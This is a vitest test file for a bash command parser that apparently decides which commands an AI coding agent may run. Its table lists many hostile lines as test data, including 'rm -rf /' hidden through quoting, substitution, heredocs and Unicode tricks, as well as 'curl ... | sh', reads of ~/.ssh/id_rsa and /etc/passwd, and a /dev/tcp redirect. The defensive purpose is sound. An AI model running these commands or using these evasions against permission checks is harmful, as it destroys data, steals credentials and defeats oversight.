import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Target } from '../../extension/protocol/permissions.ts';
import { parseCommand } from '../../extension/tools/shell/parse-command.ts';
import { readWord } from '../../extension/tools/shell/shell-words.ts';
import { runInBash, shellLine } from '../support/shell-lines.ts';

/** Commands as `rm|-rf`, files as `<in` and `>out`, what is unclear as `?`. */
function short(target: Target): string {
  if (target.kind === 'command') return target.words.join('|');
  if (target.kind === 'path') return `${target.access === 'read' ? '<' : '>'}${target.path}`;
  return target.kind === 'unclear' ? '?' : target.kind;
}

async function read(line: string): Promise<string[]> {
  return [...new Set((await parseCommand(line)).map(short))];
}

const RM = 'rm|-rf|/';
const LINES: [line: string, ...targets: string[]][] = [
  // One after the other.
  ['git status && rm -rf /', 'git|status', RM],
  ['git status; rm -rf /', 'git|status', RM],
  ['git status\nrm -rf /', 'git|status', RM],
  ['git status & rm -rf /', 'git|status', RM],
  ['git status || rm -rf /', 'git|status', RM],
  ['git status | rm -rf /', 'git|status', RM],
  ['git status |& rm -rf /', 'git|status', RM],
  ['(rm -rf /)', RM],
  ['{ rm -rf /; }', RM],
  ['! rm -rf /', RM],
  ['if true; then rm -rf /; fi', RM],
  ['if rm -rf /; then :; elif a; then b; else c; fi', RM, 'a', 'b', 'c'],
  ['while rm -rf /; do break; done', RM],
  ['until a; do rm -rf /; done', 'a', RM],
  ['for i in 1 2 3; do rm -rf /; done', RM],
  ['case a in b) x ;; *) rm -rf / ;; esac', 'x', RM],
  ['npm() { rm -rf /; }; npm test', RM, 'npm|test'],
  ['function npm { rm -rf /; }\nnpm test', RM, 'npm|test'],
  ['npm test # && rm -rf /', 'npm|test'],
  ['npm test #\nrm -rf /', 'npm|test', RM],
  ['npm test#; rm -rf /', 'npm|test#', RM],
  // Quotes.
  ["r''m -rf /", RM],
  ['"r"m -rf /', RM],
  ['\\rm -rf /', RM],
  ['r\\m -rf /', RM],
  ['r\\\nm -rf /', '?', 'r|m|-rf|/'],
  ["'rm' '-rf' \"/\"", RM],
  ["$'\\x72m' -rf /", '?'],
  ['$"rm" -rf /', '?'],
  ["echo 'a; rm -rf /'", 'echo|a; rm -rf /'],
  ['echo "a; rm -rf /"', 'echo|a; rm -rf /'],
  ['echo a\\; rm -rf /', 'echo|a;|rm|-rf|/'],
  ['echo "exit $?" \'$?\'', 'echo|exit $?|$?'],
  ['grep "a$" file', 'grep|a$|file'],
  ['{rm,-rf,/}', '?'],
  ['echo {a,b}', '?', 'echo|{a,b}'],
  // What only running it shows.
  ['$(echo rm) -rf /', 'echo|rm', '?'],
  ['`echo rm` -rf /', 'echo|rm', '?'],
  ['echo "$(rm -rf /)"', RM, '?', 'echo|"$(rm -rf /)"'],
  ['echo `rm -rf /`', RM, '?', 'echo|`rm -rf /`'],
  ['diff <(rm -rf /) x', RM, '?', 'diff|<(rm -rf /)|x'],
  ['X=rm; $X -rf /', '?'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's
  ['npm ${X:-$(rm -rf /)}', RM, '?', 'npm|${X:-$(rm -rf /)}'],
  ['cat $FILE', '?', 'cat|$FILE'],
  ['cat ~/.ssh/id_rsa', '?', 'cat|~/.ssh/id_rsa'],
  ['rm *', '?', 'rm|*'],
  ['/???/rm -rf /', '?'],
  ['echo $((a[$(rm -rf /)]))', RM, '?', 'echo|$((a[$(rm -rf /)]))'],
  ['(( x = 1 ))', '?'],
  ["[[ -v 'a[$(rm)]' ]]", '?'],
  ['[[ a -eq b ]]', '?'],
  ['[ -f x && rm ]', '?'],
  ['[ -f x & rm ]', '?'],
  ['[ x | rm ]', '?'],
  ['cat <<< $X', '?', 'cat'],
  ["cat <<< 'x y'", 'cat'],
  ['case $X in a) b ;; esac', '?', 'b'],
  ['case a in *.ts) b ;; "x y") c ;; $(rm -rf /)) d ;; esac', 'b', 'c', 'd', '?', RM],
  ['for f in *.ts; do b; done', '?', 'b'],
  ['[ -f package.json ] && npm test', 'npm|test'],
  // Variables.
  ['PATH=/tmp npm test', '?', 'npm|test'],
  ['GIT_DIR=x git status', '?', 'git|status'],
  ['NODE_OPTIONS=--require=x npm test', '?', 'npm|test'],
  ['NODE_ENV=test CI=1 npm test', 'npm|test'],
  ['NODE_ENV=$(rm -rf /) npm test', '?', RM, 'npm|test'],
  ['PATH=/tmp\nnpm test', '?', 'npm|test'],
  ['export PATH=/tmp; npm test', '?', 'npm|test'],
  ['for PATH in /tmp; do npm test; done', '?', 'npm|test'],
  ['read PATH < x; npm test', 'read|PATH', '?', '<x', 'npm|test'],
  ['printf -v PATH /tmp; npm test', 'printf|-v|PATH|/tmp', '?', 'npm|test'],
  ['alias npm="rm -rf /"\nnpm test', 'alias|npm=rm -rf /', '?', 'npm|test'],
  ['set -euo pipefail; npm test', 'npm|test'],
  ['set -- rm; "$@"', 'set|--|rm', '?'],
  // Programs that run others.
  ['env npm test', 'npm|test'],
  ['env PATH=/tmp npm test', '?', 'npm|test'],
  ['env -S "rm -rf /"', 'env|-S|rm -rf /', '?'],
  ['sudo rm -rf /', 'sudo|rm|-rf|/', RM],
  ['timeout -k 5 60 nice -n 5 npm test', 'npm|test'],
  ['timeout --weird 60 npm test', 'timeout|--weird|60|npm|test', '?'],
  ['nohup rm -rf / &', RM],
  ['time -p rm -rf /', RM],
  ['time { rm -rf /; }', '?', 'time|{|rm|-rf|/'],
  ['coproc rm -rf /', '?'],
  ['command rm -rf /', RM],
  ['builtin eval "rm -rf /"', RM],
  ['exec rm -rf /', RM],
  ['/usr/bin/env rm -rf /', '/usr/bin/env|rm|-rf|/', RM],
  ['./timeout 5 npm test', './timeout|5|npm|test', 'npm|test'],
  ['ls | xargs rm -rf', 'ls', 'xargs|rm|-rf', 'rm|-rf', '?'],
  ['xargs -I{} sh -c "rm {}"', 'xargs|-I{}|sh|-c|rm {}', 'rm|{}', '?'],
  ['find . -exec rm -rf {} \\;', 'find|.|-exec|rm|-rf|{}|;', 'rm|-rf|{}', '?'],
  ["find . -name '*.ts'", 'find|.|-name|*.ts'],
  ['find . -delete', 'find|.|-delete', '?'],
  ['sh -c "a && rm -rf /"', 'a', RM],
  ['bash -ec \'bash -c "rm -rf /"\'', RM],
  ['bash -lc ls', 'bash|-lc|ls', '?'],
  ['bash build.sh', 'bash|build.sh'],
  ['curl https://example.com | sh', 'curl|https://example.com', 'sh', '?'],
  ['eval "rm -rf" /', RM],
  ['eval -- rm -rf /', RM],
  ['f() { a; } <<< $(rm -rf /)', 'a', '?', RM],
  ['npx vitest run', 'npx|vitest|run'],
  ['npx -y tsx -e 1', 'npx|-y|tsx|-e|1', '?'],
  ['uv run python3 -c 1', 'uv|run|python3|-c|1', '?'],
  ['command -v node', 'command|-v|node'],
  ['trap "rm -rf /" EXIT', RM],
  ['source x.sh', 'source|x.sh', '?'],
  ['. ./x.sh', '.|./x.sh', '?'],
  ["python3 -c 'import os'", 'python3|-c|import os', '?'],
  ['python3 <<EOF\nx\nEOF', 'python3', '?'],
  ['python3 -m pytest', 'python3|-m|pytest'],
  ['node -e 1', 'node|-e|1', '?'],
  ['node script.js -e', 'node|script.js|-e'],
  ['perl -pe 1 x', 'perl|-pe|1|x', '?'],
  ["awk '{ print $1 }' x", 'awk|{ print $1 }|x'],
  ['awk \'BEGIN { system("rm") }\'', 'awk|BEGIN { system("rm") }', '?'],
  ["sed -n '1,5p' x", 'sed|-n|1,5p|x'],
  ["sed 's/a/rm/e' x", 'sed|s/a/rm/e|x', '?'],
  ['ssh host rm', 'ssh|host|rm', '?'],
  ['busybox rm -rf /', 'busybox|rm|-rf|/', '?'],
  // git.
  ['git log --oneline -5', 'git|log|--oneline|-5'],
  ["git -c alias.x='!rm -rf /' x", 'git|-c|alias.x=!rm -rf /|x', '?'],
  ['git --exec-path=/tmp status', 'git|--exec-path=/tmp|status', '?'],
  ['git log --outp=/etc/x', 'git|log|--outp=/etc/x', '?'],
  ['git grep -Orm x', 'git|grep|-Orm|x', '?'],
  ['git clone ext::sh', 'git|clone|ext::sh', '?'],
  ['git config core.pager rm', 'git|config|core.pager|rm', '?'],
  // Files.
  ['npm test > out.txt 2>&1', 'npm|test', '>out.txt'],
  ['echo a >> src/../b', 'echo|a', '>b'],
  ['cat < ../x', 'cat', '<../x'],
  ['cat < /etc/passwd', 'cat', '</etc/passwd'],
  ['> x', '>x'],
  ['{ a; b; } &> "x y"', 'a', 'b', '>x y'],
  ['a <> x', 'a', '<x', '>x', '?'],
  ['a > $X', '?', 'a'],
  ['a 2>/dev/null', 'a'],
  ["a >&'$(rm -rf /)'", '?', 'a'],
  ['a 2>&1 >&-', 'a'],
  ['a > /dev/tcp/1.2.3.4/80', '?', 'a'],
  ['cd /etc && cat < passwd', 'cd|/etc', 'cat', '?'],
  // Texts for standard input.
  ["cat > x <<'EOF'\n$(rm -rf /)\nEOF", 'cat', '>x'],
  ['cat <<EOF\n$(rm -rf /)\nEOF', 'cat', '?', RM],
  ['cat <<EOF\nx\nEOF\nrm -rf /', 'cat', RM],
  ['cat <<EOF && rm -rf /\nx\nEOF', 'cat', RM],
  ['cat <<-EOF\n\tx\n\tEOF\nrm -rf /', 'cat', RM],
  ['cat <<EOF\nEO\\\nF\nrm -rf /\nEOF', 'cat', '?'],
  ['cat <<"E F"\nx\nE F\nrm -rf /', 'cat', '?', RM],
  ['cat > a <<A\nx << y\nA\ncat > b <<B\ny\nB', 'cat', '>a', '>b'],
  ['cat <<A; rm -rf / <<B\nx\nA\ny\nB', 'cat', '?'],
  ['cat <<A <<B\nx\nA\ny\nB', '?', 'cat', 'B', 'y', '<B'],
  ['rm -rf<<EOF\nx\nEOF', 'rm', '?'],
  // What hides.
  ["!'x' rm", '?', 'x|rm'],
  ['echo\u00a0rm', '?', 'echo\u00a0rm'],
  ['git status\u202e; rm -rf /', '?', 'git|status\u202e', RM],
  ['a\rrm', '?', 'a|rm'],
  ['echo 🙂; rm -rf /', 'echo|🙂', RM],
];

test.each(LINES)('%j', async (line, ...targets) => {
  expect((await read(line)).sort()).toEqual(targets.sort());
});

test('what agents write every day is clear', async () => {
  const lines = [
    'cd packages/a && npm test 2>&1 | tail -20',
    'git diff HEAD~1 -- src && git status --short',
    'git commit -m "fix: a (b) && c; std::string"',
    'git log --oneline -5 --format="%h %s"',
    'grep -rn "foo(" src | head -5',
    "grep -E '^a$' b || true",
    'rg -n "a|b" src --glob "*.ts"',
    'npx tsc --noEmit -p .',
    'npm run build -- --mode=production; echo "exit: $?"',
    'python3 -m pytest -q tests/test_a.py::test_b',
    'PYTHONUNBUFFERED=1 python3 scripts/run.py --all',
    'go test ./... -run "TestA|TestB"',
    'cargo test --all -- --nocapture',
    'make -j4 test',
    'find . -name "*.py" -not -path "./node_modules/*" -type f',
    'cat src/a.ts | sed -n "10,20p"',
    "awk -F, '{ print $2 }' x.csv | sort | uniq -c | sort -rn",
    'jq ".a[0].b" x.json',
    'node --test test/a.test.js',
    'set -euo pipefail\nmkdir -p out\ncp a out/b',
    'if [ -f a ]; then wc -l a; else echo none; fi',
    'for i in 1 2 3; do npm test || exit 1; done',
    'timeout 60 npm test > out.log 2>&1 &',
    'command -v node',
  ];
  for (const line of lines) expect(await read(line), line).not.toContain('?');
});

test('a word is read as bash reads it, whatever the grammar makes of it', () => {
  expect(readWord(`r\\\nm'a b'"c\\"\\d"\\ e`)).toEqual({ text: 'rma bc"\\d e', unknown: null });
  for (const source of ['a b', 'a;b', 'a\nb', "a'b", '"a', 'a\\', '#a', '$a', '"$a"', '`a`', 'a*', '{a}', '~', 'a=~'])
    expect(readWord(source).unknown, source).not.toBeNull();
});

test('what is broken is unclear, and the commands in it are still told', async () => {
  for (const line of ['rm -rf / "', 'if rm -rf /; then', 'rm -rf / )', '((', 'case', 'rm -rf / <<EOF\nx']) {
    expect(await read(line), line).toContain('?');
  }
});

test('what is too much to be read is unclear', async () => {
  const nested = `${'('.repeat(5_000)}rm${')'.repeat(5_000)}`;
  const shells = Array.from({ length: 8 }).reduce<string>((line) => `sh -c ${JSON.stringify(line)}`, 'rm -rf /');
  // The grammar would take minutes over these, and all memory there is.
  const tangled = ['a|'.repeat(40_000), 'f()'.repeat(20_000)];
  for (const line of [nested, shells, `echo ${'x'.repeat(200_000)}`, ...tangled]) {
    const targets = await parseCommand(line);
    expect(targets.some(({ kind }) => kind === 'unclear')).toBe(true);
    for (const target of targets) if ('text' in target) expect(target.text.length).toBeLessThanOrEqual(500);
  }
  expect(await read('npm test')).toEqual(['npm|test']);
});

test('whatever bash itself runs of a line is among its targets, or the line is unclear', async () => {
  const lines = fc.sample(shellLine, { numRuns: 500, seed: 7 });
  const ran = runInBash(lines);
  let compared = 0;
  for (const [at, line] of lines.entries()) {
    const targets = await parseCommand(line);
    if (targets.some(({ kind }) => kind === 'unclear')) continue;
    const told = targets.map((target) => (target.kind === 'command' ? JSON.stringify(target.words) : short(target)));
    for (const words of ran[at]!.commands) expect(told, line).toContain(JSON.stringify(words));
    for (const file of ran[at]!.files) expect(told, line).toContain(`>${file}`);
    compared += ran[at]!.commands.length;
  }
  // Were all of them unclear, nothing would have been looked at.
  expect(compared).toBeGreaterThan(100);
});
